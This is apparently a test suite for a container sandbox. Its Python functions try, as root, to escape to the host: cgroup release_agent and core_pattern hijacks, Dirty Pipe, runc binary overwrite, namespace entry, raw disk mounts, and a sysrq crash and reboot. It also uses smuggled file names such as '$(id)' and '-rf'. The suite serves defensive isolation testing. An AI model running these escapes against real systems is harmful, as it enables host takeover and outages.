"""What somebody who owns root in a cell would try, as code: run inside by the image's own python3, never on the host."""

# mypy: ignore-errors

from __future__ import annotations

import contextlib
import ctypes
import errno
import glob
import os
import random
import resource
import select
import signal
import socket
import struct
import threading
import time

from attempting import FACTS, LIBC, attempt, call, driven, is_outside, opened, read

# ---- files of the host


@attempt
def canary_by_its_path():
    return is_outside(read(FACTS["canary_path"]))


@attempt
def canary_through_dotdot():
    return is_outside(read("/" + "../" * 64 + FACTS["canary_path"].lstrip("/")))


@attempt
def canary_through_proc_root():
    for pid in [*range(1, 4), FACTS["pid"], os.getpid(), os.getppid()]:
        if found := is_outside(read(f"/proc/{pid}/root{FACTS['canary_path']}")):
            return found
    return None


@attempt
def canary_through_proc_cwd():
    for pid in (1, FACTS["pid"], os.getppid()):
        if found := is_outside(read(f"/proc/{pid}/cwd/{'../' * 20}{FACTS['canary_path'].lstrip('/')}")):
            return found
    return None


@attempt
def descriptors_left_open():
    """Something inherited that is a directory or a file of the host's."""
    for number in range(3, 1024):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
            os.fstat(number)
        except OSError:
            continue
        if not target.startswith("/proc/") and "pipe:" not in target:
            return target
    return None


@attempt
def chroot_and_walk_out():
    os.makedirs("/tmp/jail", exist_ok=True)
    here = os.open(".", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return is_outside(read(FACTS["canary_path"]))


@attempt
def pivot_root_back():
    call(272, 0x20000)
    call(165, b"none", b"/", None, 0x4000 | 0x40000, None)
    os.makedirs("/tmp/new/old", exist_ok=True)
    call(165, b"tmpfs", b"/tmp/new", b"tmpfs", 0, None)
    os.makedirs("/tmp/new/old", exist_ok=True)
    call(155, b"/tmp/new", b"/tmp/new/old")
    return is_outside(read("/old" + FACTS["canary_path"]))


@attempt
def unmount_the_root():
    for path in (b"/", b"/proc", b"/dev", b"/sys", b"/run", b"/dev/pts"):
        call(166, path, 2)
        if found := is_outside(read(FACTS["canary_path"])):
            return found
    return None


@attempt
def open_by_handle():
    """CVE-2014-style shocker: a file of the host's by a guessed handle."""
    handle = struct.pack("IiQ", 8, 1, 2)
    descriptor = call(304, os.open("/", os.O_RDONLY), ctypes.create_string_buffer(handle), 0)
    return f"descriptor {descriptor}" if descriptor >= 0 else None


@attempt
def mount_the_host_s_disk():
    for device in ("vda", "vda1", "sda", "sda1", "nvme0n1", "xvda", "dm-0"):
        for kind in (b"ext4", b"btrfs", b"xfs"):
            if call(165, f"/dev/{device}".encode(), b"/mnt", kind, 1, None) == 0:
                return device
    return None


@attempt
def make_a_disk_s_node_and_read_it():
    for major, minor in ((8, 0), (8, 1), (254, 0), (253, 0), (259, 0), (7, 0), (252, 0)):
        path = f"/tmp/node{major}.{minor}"
        try:
            os.mknod(path, 0o600 | 0x6000, os.makedev(major, minor))
        except OSError:
            continue
        descriptor = opened(path)
        if descriptor >= 0 and os.read(descriptor, 512):
            return path
    return None


@attempt
def make_a_memory_node_and_read_it():
    for minor, name in ((1, "mem"), (2, "kmem"), (4, "port"), (11, "kmsg")):
        path = f"/tmp/{name}"
        try:
            os.mknod(path, 0o600 | 0x2000, os.makedev(1, minor))
        except OSError:
            continue
        if opened(path) >= 0:
            return name
    return None


@attempt
def node_on_a_tmpfs_of_our_own():
    call(165, b"tmpfs", b"/mnt", b"tmpfs", 0, None)
    os.mknod("/mnt/sda", 0o600 | 0x6000, os.makedev(254, 0))
    return "opened" if opened("/mnt/sda") >= 0 else None


@attempt
def devtmpfs():
    if call(165, b"dev", b"/mnt", b"devtmpfs", 0, None) == 0:
        for name in os.listdir("/mnt"):
            if os.stat(f"/mnt/{name}").st_mode & 0o170000 == 0o060000 and driven(f"/mnt/{name}") >= 0:
                return name
    return None


@attempt
def sysfs_of_the_host():
    if call(165, b"sys", b"/mnt", b"sysfs", 0, None) == 0:
        return next((path for path in glob.glob("/mnt/class/net/*/address") if read(path).decode().strip() in FACTS["macs"]), None)
    return None


@attempt
def proc_of_the_host():
    if call(165, b"proc", b"/mnt", b"proc", 0, None) == 0:
        return is_outside(read("/mnt/version") + read("/mnt/1/environ")) or (
            b"mirage" in read("/mnt/1/cmdline") and "our command line"
        )
    return None


@attempt
def proc_of_the_host_by_a_race():
    """The kind's name changes between the look at it and its use."""
    kind = ctypes.create_string_buffer(b"tmpfs")
    stop = time.monotonic() + 1.5

    def swap():
        while time.monotonic() < stop:
            kind.raw = b"proc\0\0"
            kind.raw = b"tmpfs\0"

    threading.Thread(target=swap, daemon=True).start()
    while time.monotonic() < stop:
        if LIBC.mount(b"x", b"/mnt", kind, 0, None) == 0:
            if found := is_outside(read("/mnt/version")):
                return found
            call(166, b"/mnt", 2)
    return None


@attempt
def proc_of_the_host_in_a_nested_namespace():
    call(272, 0x10000000 | 0x20000000 | 0x20000)
    child = os.fork()
    if child == 0:
        call(165, b"proc", b"/mnt", b"proc", 0, None)
        os._exit(7 if is_outside(read("/mnt/version")) else 0)
    return "mounted" if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7 else None


@attempt
def overlay_over_proc():
    if call(165, b"overlay", b"/mnt", b"overlay", 0, b"lowerdir=/proc,upperdir=/tmp/u,workdir=/tmp/w") == 0:
        return is_outside(read("/mnt/version"))
    return None


@attempt
def debugfs_and_tracefs():
    for kind in (b"debugfs", b"tracefs", b"securityfs", b"pstore", b"efivarfs", b"bpf", b"configfs", b"selinuxfs"):
        if call(165, kind, b"/mnt", kind, 0, None) == 0 and os.stat("/mnt").st_dev != os.stat("/sys").st_dev:
            return kind.decode()
    return None


@attempt
def cgroup_release_agent():
    """CVE-2022-0492."""
    for options in (b"rdma", b"memory", b"pids", b"cpu", b"none,name=x"):
        if call(165, b"cgroup", b"/mnt", b"cgroup", 0, options) == 0:
            with open("/mnt/release_agent", "w") as file:
                file.write("/tmp/evil")
            return "written"
    return None


@attempt
def cgroup2_above_ourselves():
    if call(165, b"cgroup2", b"/mnt", b"cgroup2", 0, None) == 0:
        procs = read("/mnt/../cgroup.procs") + read("/mnt/cgroup.procs")
        if str(FACTS["pid"]).encode() in procs.split():
            return "the host's processes"
    return None


@attempt
def core_pattern():
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        file.write("|/tmp/evil")
    return "the host's" if FACTS.get("core_pattern", "") != "|/tmp/evil" and b"evil" in read("/mnt/x") else None


@attempt
def modprobe_path():
    with open("/proc/sys/kernel/modprobe", "w") as file:
        file.write("/tmp/evil")
    return


@attempt
def binfmt_misc():
    """Since Linux 6.7 a user namespace has a table of its own; the test looks whether the host's has changed."""
    call(165, b"binfmt_misc", b"/mnt", b"binfmt_misc", 0, None)
    with open("/mnt/register", "w") as file:
        file.write(":mirage-escape:E::x::/tmp/evil:")


@attempt
def uevent_helper():
    with open("/sys/kernel/uevent_helper", "w") as file:
        file.write("/tmp/evil")


@attempt
def sysrq():
    with open("/proc/sysrq-trigger", "w") as file:
        file.write("c")


@attempt
def kernel_memory_by_proc():
    for path in ("/proc/kcore", "/proc/kallsyms", "/proc/kpageflags", "/dev/mem", "/dev/kmem", "/dev/port"):
        data = read(path, 65536)
        if data[:4] == b"\x7fELF" or (b"startup_64" in data and not data.startswith(b"0000000000000000")):
            return path
    return None


@attempt
def kernel_log():
    room = ctypes.create_string_buffer(65536)
    size = call(103, 3, room, 65536)
    return is_outside(room.raw[:size]) if size > 0 else is_outside(read("/dev/kmsg"))


@attempt
def load_a_module():
    return "loaded" if call(313, os.open("/bin/ls", os.O_RDONLY), b"", 0) == 0 or call(175, b"x", 1, b"") == 0 else None


@attempt
def unload_a_module():
    return "unloaded" if call(176, b"fuse", 0) == 0 else None


@attempt
def kexec():
    segment = struct.pack("QQQQ", 0, 0, 0x100000, 4096)
    kernel = os.open("/vmlinuz", os.O_RDONLY)
    return "loaded" if call(246, 0x100000, 1, segment, 0) == 0 or call(320, kernel, -1, 0, b"", 8) == 0 else None


@attempt
def bpf():
    return "a map" if call(321, 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1).ljust(128, b"\0")), 128) >= 0 else None


@attempt
def io_uring():
    return "a ring" if call(425, 8, ctypes.create_string_buffer(120)) >= 0 else None


@attempt
def userfaultfd():
    return "a descriptor" if call(323, 0) >= 0 else None


@attempt
def perf_events():
    return (
        "a counter"
        if call(298, ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0).ljust(112, b"\0")), 0, -1, -1, 0) >= 0
        else None
    )


@attempt
def keyrings():
    """The number that KEYCTL_GET_KEYRING_ID gives is nobody's: nothing can be kept in it, read or described."""
    made = call(248, b"user", b"x", b"y", 1, -3)
    room = ctypes.create_string_buffer(256)
    return "a key" if made >= 0 or any(call(250, how, call(250, 0, -3, 0), room, 256) >= 0 for how in (6, 11, 3, 9)) else None


@attempt
def new_mount_api_of_a_host_path():
    descriptor = call(428, -100, FACTS["canary_path"].encode(), 1)
    return is_outside(os.read(descriptor, 100)) if descriptor >= 0 else None


@attempt
def fsopen_of_block_file_systems():
    for kind in (b"ext4", b"btrfs", b"xfs", b"iso9660", b"vfat"):
        context = call(430, kind, 0)
        if context >= 0 and call(431, context, 6, None, None, 0) == 0:
            return kind.decode()
    return None


@attempt
def foreign_calls_by_int80():
    """The i386 table: getpid is 20 there."""
    import mmap

    code = mmap.mmap(-1, 4096, prot=7)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    return "answered" if run() == os.getpid() else None


@attempt
def foreign_calls_of_x32():
    return "answered" if call(0x40000000 | 39) == os.getpid() else None


# ---- processes of the host


@attempt
def signal_the_host_s_process():
    try:
        os.kill(FACTS["pid"], 0)
    except ProcessLookupError:
        return None
    return None if os.path.exists(f"/proc/{FACTS['pid']}/comm") else "a process that is not shown"


@attempt
def kill_everything():
    child = os.fork()
    if child == 0:
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os._exit(0)
    os.waitpid(child, 0)


@attempt
def kill_the_first_process():
    for number in (9, 15, 11, 19):
        call(424, call(434, 1, 0), number, 0, 0)
    return None if os.path.exists("/proc/1") else "it is gone"


@attempt
def ptrace_the_first_process():
    for request in (16, 0x4206):
        if call(101, request, 1, 0, 0) == 0:
            return f"request {request}"
    return None


@attempt
def memory_of_the_first_process():
    room = ctypes.create_string_buffer(16)
    local, remote = struct.pack("PQ", ctypes.addressof(room), 16), struct.pack("PQ", 0x400000, 16)
    return "read" if call(310, 1, local, 1, remote, 1, 0) > 0 else None


@attempt
def memory_file_of_the_first_process():
    return "opened" if opened("/proc/1/mem", os.O_RDWR) >= 0 and read("/proc/1/mem") else None


@attempt
def descriptor_of_the_first_process():
    pidfd = call(434, 1, 0)
    for number in range(64):
        if pidfd >= 0 and (taken := call(438, pidfd, number, 0)) >= 0:
            return f"descriptor {number}: {os.readlink(f'/proc/self/fd/{taken}')}"
    return None


@attempt
def memory_of_every_process_below_64():
    """The witness is one of them."""
    room = ctypes.create_string_buffer(16)
    for pid in range(1, 64):
        if pid != os.getpid() and call(101, 16, pid, 0, 0) == 0 and not os.path.exists(f"/proc/{pid}/exe"):
            return f"process {pid}"
    return room.raw.strip(b"\0").decode() or None


@attempt
def namespaces_of_the_host():
    for pid in (1, FACTS["pid"], os.getppid()):
        for name, kind in (("mnt", 0x20000), ("pid", 0x20000000), ("net", 0x40000000), ("user", 0x10000000), ("uts", 0x4000000)):
            descriptor = opened(f"/proc/{pid}/ns/{name}")
            if descriptor >= 0 and call(308, descriptor, kind) == 0 and (found := is_outside(read(FACTS["canary_path"]))):
                return found
    return None


@attempt
def parent_user_namespace():
    descriptor = opened("/proc/self/ns/user")
    if descriptor >= 0:
        parent = call(16, descriptor, 0xB702)  # NS_GET_PARENT
        if parent >= 0:
            return "the parent's"
    return None


@attempt
def uid_map_of_more_than_ours():
    child = os.fork()
    if child == 0:
        call(272, 0x10000000)
        time.sleep(1)
        os._exit(0)
    time.sleep(0.2)
    try:
        with open(f"/proc/{child}/uid_map", "w") as file:
            file.write("0 0 4294967295\n")
        return "written"
    except OSError:
        return None
    finally:
        os.kill(child, 9)


@attempt
def setuid_to_what_is_not_mapped():
    for uid in (0x80000, 0x10000000, 0x7FFFFFFF):
        if call(117, uid, uid, uid) == 0:
            return f"uid {uid}"
    return None


@attempt
def capabilities_over_the_clock():
    before = time.time()
    call(227, 0, struct.pack("qq", 0, 0))
    call(164, struct.pack("qq", 0, 0), None)
    call(305, 0, ctypes.create_string_buffer(struct.pack("I", 0x0100).ljust(208, b"\0")))
    return "it moved" if abs(time.time() - before) > 3600 else None


@attempt
def priorities_of_real_time():
    """It is said to be granted; the kernel's own slice of time, RR_TIMESLICE of who runs round robin, tells whether it is."""
    call(144, 0, 2, struct.pack("i", 50))
    slice_of_time = ctypes.create_string_buffer(16)
    is_granted = call(148, 0, slice_of_time) == 0 and struct.unpack("qq", slice_of_time.raw) == (0, 100_000_000)
    return "a real-time process" if is_granted else None


@attempt
def reboot_the_host():
    child = os.fork()
    if child == 0:
        call(272, 0x20000000)
        if os.fork() == 0:
            call(169, 0xFEE1DEAD, 0x28121969, 0x89ABCDEF, 0)
        os._exit(0)
    os.waitpid(child, 0)


@attempt
def swap_on_a_file():
    with open("/tmp/swap", "wb") as file:
        file.write(b"\0" * 65536)
    return "on" if call(167, b"/tmp/swap", 0) == 0 else None


@attempt
def accounting_into_a_file():
    with open("/tmp/acct", "wb"):
        pass
    call(163, b"/tmp/acct")
    os.waitpid(os.spawnv(os.P_NOWAIT, "/bin/true", ["true"]), 0)
    return "on" if os.path.getsize("/tmp/acct") else None


@attempt
def ports_of_the_machine():
    """They are said to be granted; who reads one dies of it."""
    import mmap

    call(172, 3)
    call(173, 0x80, 1, 1)
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(bytes.fromhex("66ba8000ecc3"))  # mov dx, 0x80; in al, dx; ret
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    return "granted"


@attempt
def raise_hard_limits():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard * 16))
        return "raised"
    except (ValueError, OSError):
        return None


@attempt
def ioctls_of_the_terminal():
    """TIOCSTI and TIOCLINUX at what we were given."""
    import fcntl

    for number in range(3):
        for request, argument in ((0x541C, b"\x0b"), (0x4B3A, b"\0")):
            try:
                fcntl.ioctl(number, request, argument)
                return f"{request:#x}"
            except OSError:
                continue
    return None


# ---- the network of the host


def _reaches(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as probe:
        probe.settimeout(1.0)
        try:
            probe.connect(address)
            return is_outside(probe.recv(100)) or None
        except OSError:
            return None


@attempt
def loopback_of_the_host():
    return _reaches(socket.AF_INET, ("127.0.0.1", FACTS["port"]))


@attempt
def loopback_of_the_host_by_ipv6():
    return _reaches(socket.AF_INET6, ("::1", FACTS["port"]))


@attempt
def any_address_of_the_host():
    for address in FACTS["addresses"]:
        if found := _reaches(socket.AF_INET6 if ":" in address else socket.AF_INET, (address, FACTS["port"])):
            return found
    return None


@attempt
def mirage_s_own_ssh_port():
    return _reaches(socket.AF_INET, ("127.0.0.1", FACTS["ssh"]))


@attempt
def metadata_service():
    for address in ("169.254.169.254", "100.100.100.200", "168.63.129.16"):
        if _reaches(socket.AF_INET, (address, 80)):
            return address
    return None


@attempt
def abstract_socket_of_the_host():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as probe:
        probe.connect("\0" + FACTS["abstract"])
        return "connected"


@attempt
def unix_sockets_of_the_host():
    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", FACTS["unix"]):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as probe:
            try:
                probe.connect(path)
            except OSError:
                continue
            return path
    return None


@attempt
def vsock():
    with socket.socket(40, socket.SOCK_STREAM) as probe:
        probe.connect((2, 1024))
        return "the hypervisor"


@attempt
def strange_families():
    for family in (3, 4, 5, 6, 9, 21, 29, 30, 31, 36, 38, 41, 42, 43, 44):
        try:
            socket.socket(family, socket.SOCK_DGRAM)
            return f"family {family}"
        except OSError:
            continue
    return None


@attempt
def move_an_interface_out():
    """RTM_NEWLINK with IFLA_NET_NS_PID of what might be the host's."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        for pid in (1, FACTS["pid"]):
            body = struct.pack("BBHiII", 0, 0, 0, 2, 0, 0) + struct.pack("HHI", 8, 19, pid)
            link.send(struct.pack("IHHII", 16 + len(body), 16, 5, 1, 0) + body)
            link.settimeout(1)
            link.recv(4096)
    return None if os.path.exists("/sys/class/net") else "gone"


@attempt
def raw_frames_to_the_outside():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300) as wire:
        wire.settimeout(1)
        end = time.monotonic() + 2
        while time.monotonic() < end:
            if found := is_outside(wire.recv(2000)):
                return found
    return None


@attempt
def a_veth_into_the_host():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        link.settimeout(1)
        name = struct.pack("HH", 9, 3) + b"esc0\0\0\0\0"
        kind = struct.pack("HH", 8, 1) + b"veth"
        info = struct.pack("HH", 4 + len(kind), 18) + kind
        body = struct.pack("BBHiII", 0, 0, 0, 0, 0, 0) + name + info + struct.pack("HHI", 8, 19, FACTS["pid"])
        link.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        error = struct.unpack_from("i", link.recv(4096), 16)[0]
        return None if error else "made"


# ---- the FUSE server and the stage


@attempt
def fuse_of_our_own():
    """A second device, or a mount that takes over ours."""
    descriptor = opened("/dev/fuse", os.O_RDWR)
    if descriptor < 0:
        return None
    options = f"fd={descriptor},rootmode=40000,user_id=0,group_id=0,allow_other".encode()
    call(165, b"x", b"/mnt", b"fuse", 0, options)
    return is_outside(read(FACTS["canary_path"]))


@attempt
def clone_of_the_fuse_device():
    import fcntl

    descriptor = opened("/dev/fuse", os.O_RDWR)
    for other in range(64):
        if descriptor >= 0:
            try:
                fcntl.ioctl(descriptor, 0x8004E500, struct.pack("I", other))
                return f"joined {other}"
            except OSError:
                continue
    return None


@attempt
def symlink_races():
    """A name that changes between a directory and a link to the outside, while it is walked."""
    os.makedirs("/tmp/race/real", exist_ok=True)
    stop = time.monotonic() + 1.5
    target = os.path.dirname(FACTS["canary_path"])

    def swap():
        while time.monotonic() < stop:
            for make in (lambda: os.symlink(target, "/tmp/race/d"), lambda: os.mkdir("/tmp/race/d")):
                for undo in (os.unlink, os.rmdir):
                    try:
                        undo("/tmp/race/d")
                    except OSError:
                        pass
                try:
                    make()
                except OSError:
                    pass

    thread = threading.Thread(target=swap, daemon=True)
    thread.start()
    name = os.path.basename(FACTS["canary_path"])
    while time.monotonic() < stop:
        if found := is_outside(read(f"/tmp/race/d/{name}")):
            return found
    return None


@attempt
def rename_races():
    os.makedirs("/tmp/ren/a/b/c", exist_ok=True)
    stop = time.monotonic() + 2

    def swap():
        while time.monotonic() < stop:
            for old, new in (("/tmp/ren/a/b", "/tmp/ren/b"), ("/tmp/ren/b", "/tmp/ren/a/b")):
                try:
                    os.rename(old, new)
                except OSError:
                    pass

    thread = threading.Thread(target=swap, daemon=True)
    thread.start()
    while time.monotonic() < stop:
        try:
            here = os.open("/tmp/ren/a/b/c", os.O_RDONLY)
            inside = os.open("../../../../../../" + FACTS["canary_path"].lstrip("/"), os.O_RDONLY, dir_fd=here)
            return is_outside(os.read(inside, 100))
        except OSError:
            continue
        finally:
            for number in range(3, 64):
                try:
                    os.close(number)
                except OSError:
                    pass
    return None


@attempt
def strange_names():
    for name in (b"\xff\xfe", b"a" * 255, b"...", b" ", b"\n", b"-rf", b"%s%n", b"$(id)", b"`id`"):
        path = b"/tmp/" + name
        with open(path, "wb") as file:
            file.write(name)
        if open(path, "rb").read() != name:
            return repr(name)
    return None


@attempt
def page_fault_while_we_are_looked_at():
    """A process that sleeps in a fault on our own mount, and one that looks at it."""
    import mmap

    with open("/tmp/mapped", "wb") as file:
        file.truncate(1 << 20)
    child = os.fork()
    if child == 0:
        with open("/tmp/mapped", "r+b") as file:
            area = mmap.mmap(file.fileno(), 1 << 20)
            for _ in range(200):
                for at in range(0, 1 << 20, 4096):
                    area[at] = 1
        os._exit(0)
    for _ in range(200):
        read(f"/proc/{child}/cmdline")
        read(f"/proc/{child}/maps")
        read(f"/proc/{child}/environ")
    os.kill(child, 9)
    os.waitpid(child, 0)


@attempt
def hidden_proc_by_guessing():
    for name in os.listdir("/proc"):
        if name.startswith("."):
            return name
    return next((path for path in glob.glob("/proc/.*") if path not in ("/proc/.", "/proc/..")), None)


@attempt
def hidden_proc_by_another_name():
    for name in os.listdir("/proc"):
        if not name.isdigit() and name not in ("self", "thread-self") and os.path.exists(f"/proc/{name}/self/mountinfo"):
            return name
    return None


@attempt
def stubs_by_listing_and_by_their_call():
    if any(name.startswith(b"\x80") or name[0] > 0x7F for name in os.listdir(b"/")):
        return "listed"
    result = call(1023, 0, 0)
    return None if result == -errno.ENOSYS else f"call 1023: {result}"


@attempt
def mount_table_of_the_kernel():
    tables = [f"/proc/{who}/{name}" for who in ("self", "1") for name in ("mounts", "mountinfo")]
    words = b"".join(map(read, tables)).split()
    return next((word.decode() for word in words if (word.startswith(b"fuse") and word != b"fusectl") or b"mirage" in word), None)


@attempt
def cgroup_path():
    return "it names us" if b"mirage" in read("/proc/self/cgroup") + read("/proc/1/cgroup") else None


# ---- too much of everything: the host and the others must not feel it


# ---- by public weaknesses of the last years, each by what it needs first


def _mounted_by_context(kind, options):
    """fsopen, fsconfig and fsmount: a file system, as a descriptor; -1 where it is refused."""
    context = call(430, kind, 0)
    for key, value in options:
        call(431, context, 1, key, value, 0)
    return call(432, context, 0, 0) if context >= 0 and call(431, context, 6, None, None, 0) == 0 else -1


@attempt
def a_legacy_parameter_too_long():
    """CVE-2022-0185: fsconfig's text overruns its page."""
    context = call(430, b"ext4", 0)
    return "a context" if context >= 0 and call(431, context, 1, b"A" * 30, b"B" * 4000, 0) >= 0 else None


@attempt
def a_pipe_s_page_that_is_written():
    """CVE-2022-0847, Dirty Pipe: flags of a pipe's buffer outlive their page."""
    reader, writer = os.pipe()
    os.write(writer, bytes(65536))
    os.read(reader, 65536)
    with open("/bin/true", "rb") as file:
        before = file.read(16)
        os.splice(file.fileno(), writer, 1, offset_src=1)
    os.write(writer, b"x" * 8)
    return "written" if read("/bin/true", 16) != before else None


@attempt
def an_overlay_that_copies_a_setuid_file_up():
    """CVE-2023-0386: a file of nobody's becomes root's."""
    for name in ("l", "u", "w", "m"):
        os.makedirs(f"/tmp/cp/{name}", exist_ok=True)
    if (
        call(
            165,
            b"overlay",
            b"/tmp/cp/m",
            b"overlay",
            0,
            b"lowerdir=/tmp/cp/l,upperdir=/tmp/cp/u,workdir=/tmp/cp/w,metacopy=on,redirect_dir=on",
        )
        == 0
    ):
        return "metacopy" if "metacopy=on" in read("/proc/self/mountinfo", 65536).decode() else None
    return None


@attempt
def an_overlay_over_the_hidden_procfs():
    """What the mount call's stand-in would mount for us, with a lower directory that only it can see."""
    for directory in (b"/proc/1/root/proc", b"/proc/self/root/proc", b"/proc/thread-self/root/sys"):
        call(165, b"overlay", b"/mnt", b"overlay", 0, b"lowerdir=" + directory + b":/tmp")
        if found := is_outside(read("/mnt/version") + read("/mnt/kernel/vmcoreinfo")):
            return found
        call(166, b"/mnt", 2)
    return None


@attempt
def nf_tables_in_a_namespace():
    """CVE-2022-34918, CVE-2023-32233, CVE-2024-1086 begin with a table in a network of one's own; it must not be the host's."""
    call(272, 0x40000000)
    with socket.socket(16, 3, 12) as line:
        line.send(struct.pack("IHHII", 20, 0x0A01, 0x301, 1, 0) + struct.pack("BBH", 1, 0, 0))
        data = line.recv(65536)
    return is_outside(data)


@attempt
def traffic_control_filters():
    """CVE-2023-1829, CVE-2023-3776: tcindex and fw filters of a device of one's own."""
    with socket.socket(16, 3, 0) as line:
        body = bytes(4) + struct.pack("iIII", 1, 0, 0xFFFFFFFF, 0) + struct.pack("HH", 12, 1) + b"tcindex\0"
        line.send(struct.pack("IHHII", 16 + len(body), 44, 0x605, 1, 0) + body)
        error = struct.unpack_from("i", line.recv(4096), 16)[0]
    return None if error else "made"


@attempt
def a_userfault_handler_through_its_device():
    return "opened" if driven("/dev/userfaultfd", os.O_RDWR) >= 0 else None


@attempt
def a_ring_registered_by_another_way():
    """CVE-2022-29582, CVE-2023-2598: io_uring's other calls, with descriptors that stand open."""
    return next((f"call {n} of {fd}" for n in (426, 427) for fd in range(64) if call(n, fd, 0, None, 0, 0, 0) >= 0), None)


@attempt
def a_runtime_s_own_binary():
    """CVE-2019-5736: /proc/PID/exe of who entered the container, opened to be written."""
    for pid in (1, os.getppid(), "self"):
        with contextlib.suppress(OSError):
            for name in os.listdir(f"/proc/{pid}/task"):
                found = opened(f"/proc/{pid}/task/{name}/exe", os.O_WRONLY)
                if found >= 0 and os.fstat(found).st_dev != os.stat("/usr").st_dev:
                    return f"{pid}/{name}"
    return None


@attempt
def a_leaked_working_directory():
    """CVE-2024-21626: a directory of the host's among the descriptors of whoever started us."""
    for pid in (1, *range(2, 64), os.getppid()):
        for number in range(32):
            with contextlib.suppress(OSError):
                os.chdir(f"/proc/{pid}/fd/{number}")
                if found := is_outside(read("../" * 30 + FACTS["canary_path"].lstrip("/"))):
                    return found
    return None


@attempt
def a_pidfd_of_ours_through_clone3():
    """CLONE_INTO_CGROUP with a directory that is no cgroup, CLONE_PARENT of the first process's child."""
    for flags in (0x200000000, 0x8000, 0x8000 | 0x10000000):
        arguments = struct.pack("11Q", flags, 0, 0, 0, 17, 0, 0, 0, 0, 0, os.open("/sys/fs/cgroup", os.O_RDONLY))
        pid = call(435, ctypes.create_string_buffer(arguments), 88)
        if pid == 0:
            os._exit(0)
        if pid > 0 and flags == 0x200000000:
            return "a cgroup of the host's"
    return None


# ---- calls that are newer than the persona's kernel, which this machine may well know


@attempt
def calls_newer_than_ours():
    """cachestat to the end of the table: none may answer."""
    return [number for number in range(451, 600) if call(number, 0, 0, 0, 0, 0, 0) != -errno.ENOSYS] or None


@attempt
def listmount_and_statmount():
    """The host's mounts by their 64-bit numbers (Linux 6.8)."""
    request, room = struct.pack("IIQQ", 24, 0, 0xFFFFFFFFFFFFFFFF, 0), ctypes.create_string_buffer(4096)
    return "listed" if call(458, request, room, 512, 0) >= 0 or call(457, request, room, 4096, 0) >= 0 else None


@attempt
def extended_attributes_by_descriptor():
    return "answered" if call(464, -100, b"/etc/passwd", 0, b"user.x", b"", 0) != -errno.ENOSYS else None


# ---- what our own doors might let through


@attempt
def descriptors_of_every_process_below_128():
    """pidfd_getfd(2): the line to the stage, the mounts' devices, the filter's listener."""
    for pid in range(1, 128):
        pidfd = call(434, pid, 0)
        if pidfd < 0:
            continue
        for number in range(128):
            taken = call(438, pidfd, number, 0)
            if taken >= 0 and pid != os.getpid():
                return f"{pid}/{number}"
    return None


@attempt
def memory_of_the_first_process_by_its_file():
    """The stage asks for us where /proc/PID/mem is read: it must not be asked for those that are ours."""
    for pid in range(1, 64):
        for name in ("mem", "pagemap", "maps", "smaps", "auxv", "environ"):
            path = f"/proc/{pid}/{name}"
            if pid == os.getpid():
                continue
            data = read(path, 65536)
            if b"mirage" in data or (name == "mem" and data):
                return path
            with contextlib.suppress(OSError), open(path, "rb", buffering=0) as file:
                file.seek(0x400000)
                if file.read(64):
                    return path
    return None


@attempt
def memory_of_another_user_s():
    """A process of root's, its memory asked for by nobody."""
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)
    for pid in os.listdir("/proc"):
        if pid.isdigit() and os.stat(f"/proc/{pid}").st_uid == 0:
            for name in ("mem", "environ", "auxv", "maps", "pagemap"):
                if opened(f"/proc/{pid}/{name}") >= 0 and read(f"/proc/{pid}/{name}", 64):
                    return f"{pid}/{name}"
    return None


@attempt
def memory_at_every_address():
    """Offsets that are none, of our own memory: whoever reads it for us must survive."""
    with open("/proc/self/mem", "r+b", buffering=0) as file:
        for offset in (0, 1, 4095, 1 << 46, (1 << 47) - 1, 1 << 47, (1 << 63) - 4096):
            for act in (lambda: file.read(4096), lambda: file.write(b"x" * 5000)):
                with contextlib.suppress(OSError):
                    file.seek(offset)
                    act()


@attempt
def maps_while_we_map():
    """A table that changes while it is read, by many threads: the mounts must go on answering."""
    import mmap

    stop = time.monotonic() + 1.5

    def churn():
        while time.monotonic() < stop:
            mmap.mmap(-1, 1 << 20).close()

    for _ in range(4):
        threading.Thread(target=churn, daemon=True).start()
    while time.monotonic() < stop:
        read("/proc/self/smaps", 1 << 20)
        read("/proc/self/maps", 1 << 20)


@attempt
def a_descriptor_handed_to_ourselves_over_a_socket():
    """SCM_RIGHTS with what was inherited, io_uring's and our own mounts' among it: none of it is the stage's."""
    left, right = socket.socketpair()
    for number in range(3, 256):
        with contextlib.suppress(OSError):
            socket.send_fds(left, [b"x"], [number])
            [taken] = socket.recv_fds(right, 1, 1)[1]
            target = os.readlink(f"/proc/self/fd/{taken}")
            if "seccomp" in target or "fuse" in target or target == "/dev/net/tun":
                return target
    return None


@attempt
def keys_pushed_into_a_terminal():
    """TIOCSTI and TIOCLINUX on every terminal that can be opened: only our own may take them."""
    import fcntl

    for path in ("/dev/console", "/dev/tty1", "/dev/tty0", "/dev/ptmx"):
        descriptor = opened(path, os.O_RDWR | os.O_NOCTTY)
        if descriptor >= 0 and path != "/dev/ptmx":
            with contextlib.suppress(OSError):
                fcntl.ioctl(descriptor, 0x5412, b"x")
                return path
    return None


